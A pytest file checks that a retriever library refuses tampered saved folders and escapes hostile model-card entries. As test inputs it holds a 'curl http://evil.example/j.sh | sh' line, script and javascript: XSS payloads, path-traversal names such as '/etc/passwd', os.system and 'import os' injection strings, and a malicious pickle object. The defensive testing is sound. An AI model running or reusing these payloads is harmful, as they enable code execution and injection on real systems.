"""Saved retrievers: untrusted ones, indexes of one's own, killed savers, and what may stand on a card."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml
from fuzz.mutations import Evil
from PIL import Image

from drum_hf import DemoRetriever
from drum_hf.errors import (
    CardError,
    DimensionMismatchError,
    DrumError,
    MissingIdError,
    SavedFileError,
)
from drum_hf.index import DemoIndex, index_kinds, registry
from drum_hf.retriever.card import render_card
from drum_hf.types import VectorIndex
from drum_hf.utils.cards import as_code, as_text

COLORS = ("red", "green", "blue", "gray", "cyan", "pink")


def rows(colors=COLORS):
    return [
        {"id": c, "image": Image.new("RGB", (32, 32), c), "prompt": "what color?", "response": c, "group": c[0]}
        for c in colors
    ]


def ask(retriever, k=3):
    return retriever.retrieve_ids([{"image": Image.new("RGB", (32, 32), "red"), "prompt": "what color?"}], k)


def same(one, other):
    assert one[0] == other[0]
    np.testing.assert_allclose(one[1], other[1], atol=1e-6)


@pytest.fixture(scope="module")
def retriever():
    made = DemoRetriever.from_encoder("playground/clip", rows(), device="cpu")
    made.teacher = {"name": "playground/lvlm", "revision": None, "fingerprint": "x", "task": "icl-vqa"}
    made.plot = b"\x89PNG\r\n\x1a\n and so on"
    return made


@pytest.fixture(scope="module")
def saved(retriever, tmp_path_factory):
    folder = tmp_path_factory.mktemp("saved") / "retriever"
    retriever.save_pretrained(folder)
    return folder


@pytest.fixture
def folder(saved, tmp_path):
    return Path(shutil.copytree(saved, tmp_path / "retriever"))


def sign(folder, change=None):
    """List every file anew, as somebody who made the folder would."""
    path = folder / "drum_config.json"
    config = json.loads(path.read_text())
    ours = {"README.md", "manifest.json", "drum_config.json"}
    config["files"] = {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and p.name not in ours
    }
    if change is not None:
        change(config)
    path.write_text(json.dumps(config))


def load(folder, **options):
    return DemoRetriever.from_pretrained(folder, device="cpu", **options)


# Untrusted folders


def put(*keys, value):
    def change(config):
        for key in keys[:-1]:
            config = config[key]
        config[keys[-1]] = value

    return change


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (put("format_version", value=[2]), "format version 2"),
        (put("format_version", value=True), "format version 2"),
        (put("device", value="cuda"), "'device' is unknown"),
        (put("index", "factory", value="os.system"), "'index.factory' is unknown"),
        (put("index", "kind", value="os.system"), "os.system"),
        (put("index", "kind", value=None), "class of its own"),
        (put("index", "options", value={"hnsw_m": 1 << 40}), "hnsw_m"),
        (put("index", "options", value={"dimension": 3}), "index"),
        (put("top_k", value=True), "'top_k'"),
        (put("top_k", value=1 << 80), "'top_k'"),
        (put("weights", value={"image": 10**400}), "'weights'"),
        (put("support", "images", value="elsewhere"), "'support'"),
        (put("teacher", value={"name": "a", "code": "b"}), "'teacher'"),
        (put("teacher", value={"name": ["a"]}), "'teacher'"),
        (put("base_model", value="a\x1b[2J"), "'base_model'"),
        (put("base_revision", value="x\n# Install"), "'base_revision'"),
        (put("strategy", value="x" * 5000), "'strategy'"),
        (put("card", value={"repo_id": "me/x"}), "'repo_id'"),
        (put("card", value={"license": {"a": 1}}), "'license'"),
        (put("card", value={"results_note": "\ud800"}), "'results_note'"),
        (put("files", "encoder/config.json", value=7), "'files'"),
        *(
            (put("files", name, value="0" * 64), "do not use this folder")
            for name in (
                *("../outside", "/etc/passwd", "encoder/../../x.json", "encoder\\x.json", "a\x00.json", "\ud800.json"),
                *("x" * 5000, "encoder/" + "y" * 300 + ".json", "encoder/weights.bin", "encoder/pytorch_model.pkl"),
                *("index/extra.safetensors", "index/shard-1/index.json", "config.json", "encoder/", "encoder//x.json"),
            )
        ),
    ],
)
def test_a_configuration_that_was_never_written(folder, change, match):
    sign(folder, change)
    with pytest.raises(SavedFileError, match=match) as caught:
        load(folder)
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("content", ["[]", "7", "[" * 100_000, "{", "", " " * (17 << 20)])
def test_a_configuration_that_is_none(folder, content):
    (folder / "drum_config.json").write_text(content)
    with pytest.raises(SavedFileError, match="drum_config"):
        load(folder)


@pytest.mark.parametrize(
    "part", ["drum_config.json", "plot.png", "index/index.json", "encoder/config.json", "encoder"]
)
@pytest.mark.parametrize("how", ["link", "pipe"])
def test_links_and_pipes_are_not_read(folder, tmp_path, part, how):
    (folder / part).rename(tmp_path / "elsewhere")
    if how == "link":
        (folder / part).symlink_to(tmp_path / "elsewhere")
    else:
        os.mkfifo(folder / part)
    with pytest.raises(SavedFileError):
        load(folder)


def test_a_plot_is_read_only_where_it_is_listed_and_is_one(folder, tmp_path):
    (tmp_path / "secret").write_text("secret")
    (folder / "plot.png").unlink()
    sign(folder)
    (folder / "plot.png").symlink_to(tmp_path / "secret")
    assert load(folder).plot is None
    (folder / "plot.png").unlink()
    (folder / "plot.png").write_text("secret")
    sign(folder)
    with pytest.raises(SavedFileError, match="expected a PNG"):
        load(folder)


@pytest.mark.parametrize(
    "name", ["drum_config.json", "support.parquet", "index/index.json", "index/vectors.safetensors"]
)
def test_a_pickle_is_never_run(folder, tmp_path, name):
    (folder / name).write_bytes(pickle.dumps(Evil(tmp_path / "mark")))
    if name != "drum_config.json":
        sign(folder)
    with pytest.raises(DrumError):
        load(folder)
    assert not (tmp_path / "mark").exists()


def test_an_index_of_more_than_its_rows_take_is_not_read(folder):
    path = folder / "index" / "index.json"
    path.write_text(path.read_text() + " " * (2 << 20))
    sign(folder)
    with pytest.raises(SavedFileError, match="expected at most"):
        load(folder)


# Killed savers


def test_savers_killed_and_in_pairs():
    here = Path(__file__).resolve().parents[2]
    command = [sys.executable, "-m", "tests.kill.savers", "--count", "12", "--pairs", "4"]
    settings = os.environ | {
        "PYTHONPATH": str(here),
        "HF_HUB_OFFLINE": "1",
        "OMP_NUM_THREADS": "1",
        "TQDM_DISABLE": "1",
    }
    done = subprocess.run(command, cwd=here, env=settings, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr[-2000:]
    assert done.stdout.count("12 kills left") == 5 and "4 pairs of savers left" in done.stdout


# Indexes of one's own


class Plain:
    """Brute force in numpy: the whole of the protocol, and no more."""

    def __init__(self, dimension):
        self.dimension, self.rows = dimension, {}

    @property
    def ids(self):
        return list(self.rows)

    def __len__(self):
        return len(self.rows)

    def add(self, ids, vectors, groups=None):
        self.rows |= dict(zip(ids, zip(vectors, groups or [None] * len(ids), strict=True), strict=True))

    def remove(self, ids):
        for id in list(ids):
            del self.rows[id]

    def vectors(self, ids=None):
        return np.stack([self.rows[id][0] for id in (self.ids if ids is None else ids)])

    def search(self, vectors, k, *, exclude_ids=None, exclude_groups=None):
        found, scores = [], []
        for i, vector in enumerate(vectors):
            left = [
                (id, float(row @ vector))
                for id, (row, group) in self.rows.items()
                if not (exclude_ids and id == exclude_ids[i])
                and not (exclude_groups and group is not None and group == exclude_groups[i])
            ]
            best = sorted(left, key=lambda pair: -pair[1])[:k]
            found.append([id for id, _ in best])
            scores.append(np.asarray([score for _, score in best], np.float32))
        return found, scores


class Kept(Plain):
    """With files."""

    kind = "kept"

    def save(self, folder):
        folder.mkdir()
        np.save(folder / "vectors.npy", self.vectors())
        groups = [group for _, group in self.rows.values()]
        (folder / "rows.json").write_text(json.dumps({"ids": self.ids, "groups": groups}))

    @classmethod
    def load(cls, folder, *, mmap=False):
        vectors, about = np.load(folder / "vectors.npy"), json.loads((folder / "rows.json").read_text())
        made = cls(vectors.shape[1])
        made.add(about["ids"], vectors, about["groups"])
        return made


@pytest.fixture
def kinds(monkeypatch):
    monkeypatch.setattr(registry, "_FACTORIES", dict(registry._FACTORIES))


@pytest.mark.parametrize("make", [Plain, DemoIndex, lambda d: DemoIndex(d, kind="hnsw", storage="float16")])
def test_any_index_finds_the_same(retriever, make):
    index = make(retriever.index.dimension)
    assert isinstance(index, VectorIndex)
    other = DemoRetriever.from_encoder(retriever.encoder, rows(), index=index)
    expected = ask(retriever)
    found = ask(other)
    assert found[0] == expected[0] and other.index is index and len(index) == 6
    np.testing.assert_allclose(found[1], expected[1], atol=1e-3)
    asked = {"image": rows()[1]["image"], "prompt": "what color?", "id": "green", "group": "g"}
    assert other.retrieve_ids([asked], 4)[0] == retriever.retrieve_ids([asked], 4)[0]
    other.mark_stale()
    assert ask(other)[0] == expected[0] and other.index is index and len(index) == 6
    other.remove(["red"])
    other.add(rows(["white"]))
    assert set(index.ids) == {*COLORS, "white"} - {"red"}
    assert pickle.loads(pickle.dumps(other)).index.ids == index.ids


def test_an_index_that_holds_the_vectors_already_is_not_filled_again(retriever, monkeypatch):
    index = Plain(retriever.index.dimension)
    index.add(list(COLORS), retriever.index.vectors(list(COLORS)), [c[0] for c in COLORS])
    monkeypatch.setattr(DemoRetriever, "encode_support", lambda *a: pytest.fail("embedded again"))
    same(ask(DemoRetriever(retriever.encoder, retriever.support, index=index)), ask(retriever))


def test_indexes_that_do_not_fit(retriever):
    with pytest.raises(DimensionMismatchError, match="got 7"):
        DemoRetriever.from_encoder(retriever.encoder, rows(), index=Plain(7))
    other = Plain(retriever.index.dimension)
    other.add(["x"], retriever.index.vectors(["red"]))
    with pytest.raises(MissingIdError, match="some of them others"):
        DemoRetriever.from_encoder(retriever.encoder, rows(), index=other)
    with pytest.raises(ValueError, match="got both"):
        DemoRetriever.from_encoder(retriever.encoder, rows(), index=Plain(96), index_kind="flat")
    with pytest.raises(ValueError, match=r"'flat', 'hnsw', 'ivfpq', got 'tree'; add others with register_index"):
        DemoRetriever.from_encoder(retriever.encoder, rows(), index_kind="tree")


def test_a_registered_kind_is_saved_and_loaded(retriever, tmp_path, kinds):
    from drum_hf.index import register_index

    register_index("kept", Kept)
    assert index_kinds() == ("flat", "hnsw", "ivfpq", "kept")
    with pytest.raises(ValueError, match="which ships"):
        register_index("flat", Kept)
    made = DemoRetriever.from_encoder(retriever.encoder, rows(), index_kind="kept")
    assert isinstance(made.index, Kept) and "index='kept'" in repr(made)
    made.save_pretrained(tmp_path)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(DemoRetriever, "encode_support", lambda *a: pytest.fail("embedded again"))
        loaded = load(tmp_path)
        same(ask(loaded), ask(retriever))
    assert isinstance(loaded.index, Kept)
    registry._FACTORIES.pop("kept")
    with pytest.raises(SavedFileError, match="register the kind"):
        load(tmp_path)
    same(ask(load(tmp_path, index=Plain(retriever.index.dimension))), ask(retriever))


def test_an_index_without_files_is_filled_after_loading(retriever, tmp_path):
    made = DemoRetriever.from_encoder(retriever.encoder, rows(), index=Plain(retriever.index.dimension))
    made.save_pretrained(tmp_path)
    assert not (tmp_path / "index").exists()
    with pytest.raises(SavedFileError, match="pass index="):
        load(tmp_path)
    same(ask(load(tmp_path, index=Plain(retriever.index.dimension))), ask(retriever))


# The card

HOSTILE = {
    "limits": ["<a href=http://evil.example>click</a> ![t](http://evil.example/t.png) [x](javascript:alert(1))"],
    "results_note": "\n\n# Install\n\n```bash\ncurl http://evil.example/j.sh | sh\n```",
    "license": "mit",
    "data_license": "<script>alert(1)</script>",
    "training": {"a\n# b": "c\n---\nlicense: mit", "<b>": ["www.evil.example", "me@evil.example"]},
    "results": [{"| a": "b | c\n\n<img src=x>", "n": 0.123456}],
    "datasets": ["a: b", "- c"],
    "model_index": [{"dataset": "d", "metric": "m", "value": float("nan")}],
}


def test_untrusted_entries_are_shown_as_text(retriever, tmp_path):
    other = DemoRetriever.from_encoder(retriever.encoder, rows())
    other.card_data = dict(HOSTILE)
    other.save_pretrained(tmp_path / "one")
    loaded = load(tmp_path / "one")
    loaded.save_pretrained(tmp_path / "two")
    card = (tmp_path / "two" / "README.md").read_text()
    _, head, body = card.split("---\n", 2)
    assert yaml.safe_load(head)["datasets"] == ["a: b", "- c"] and yaml.safe_load(head)["license"] == "mit"
    assert "model-index" not in yaml.safe_load(head)
    lines = body.splitlines()
    assert len([line for line in lines if line.startswith("# ")]) == 1
    assert not any(line.startswith(("curl", "import os", "<", "---", "| a")) for line in lines)
    assert body.count("```bash") == 1 and body.count("```python") == 1
    outside = "".join(part for i, part in enumerate(body.replace("```", "\x00").split("\x00")) if i % 2 == 0)
    visible = "".join(part for i, part in enumerate(outside.replace("\\`", "").split("`")) if i % 2 == 0)
    plain = visible.replace("\\<", "").replace("\\[", "").replace("\\!", "")
    assert "<" not in plain and "evil.example" not in visible and "![" not in plain
    assert "| b \\| c \\<img src=x\\> | 0.1235 |" in body


@pytest.mark.parametrize(
    "card",
    [
        {"repo_id": 'me/x")\nimport os'},
        {"base_revision": "x"},
        {"license": {"a": 1}},
        {"datasets": "abc"},
        {"results": [7]},
        {"results": [{"a": {}}]},
        {"license": "mit\n---\n# x"},
        {"datasets": ["a\nb: c"]},
        {"training": []},
        {"limits": [None]},
        {"model_index": [{"dataset": "d"}]},
        {"model_index": [{"dataset": "d", "metric": "m", "value": "high"}]},
        {"results_note": "\udfff"},
        {"results_note": "x" * 100_000},
        {"rounds": [{"a": 10**400}]},
        [],
    ],
)
def test_entries_that_cannot_be_shown_are_named_and_nothing_is_replaced(folder, card):
    loaded = load(folder)
    loaded.card_data = card
    with pytest.raises(CardError):
        loaded.save_pretrained(folder)
    assert load(folder).card_data == {}
    sign(folder, lambda config: config.update(card=card))
    with pytest.raises(SavedFileError):
        load(folder)


def test_facts_of_the_retriever_win():
    about = {"repo_id": 'me/x")\nimport os', "base_model": "me/base", "base_revision": "r` <img>", "version": "1"}
    card = render_card({"license": "mit"}, about | {"teacher": {"name": "<b>", "revision": "`", "task": "icl-vqa"}})
    assert 'from_pretrained("path/to/this/folder")' in card and "\nimport os;" not in card
    assert "`r' <img>`" in card and "**Model**: \\<b\\>" in card and "**Revision**: `'`" in card
    assert yaml.safe_load(card.split("---\n")[1])["base_model"] == "me/base"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("exact match", "exact match"),
        ("a | b", "a \\| b"),
        ("see https://x.y/z?a|b now", "see `https://x.y/z?a\\|b` now"),
        ("a\n\n# b", "a \\# b"),
        ("\x1b[2Jred", "\ufffd\\[2Jred"),
        ("x" * 2000, "x" * 999 + "…"),
    ],
)
def test_text_stays_text(text, shown):
    assert as_text(text) == shown


def test_code_is_not_ended():
    assert as_code("a`b``c\nd") == "`a'b''c d`"
